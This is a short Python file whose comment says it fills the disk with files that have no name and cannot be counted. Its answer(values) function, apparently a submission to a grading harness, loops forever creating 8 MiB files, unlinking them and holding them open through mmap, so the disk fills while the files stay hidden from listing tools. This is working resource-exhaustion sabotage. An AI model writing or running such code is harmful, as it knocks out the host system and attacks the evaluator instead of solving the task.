# Fills the disk with files that have no name any more and cannot be counted.
import mmap
import os

kept = []


def answer(values):
    while True:
        file = os.open("filler-0", os.O_RDWR | os.O_CREAT)
        os.unlink("filler-0")
        os.posix_fallocate(file, 0, 8 << 20)
        kept.append(mmap.mmap(file, 8 << 20))
        os.close(file)
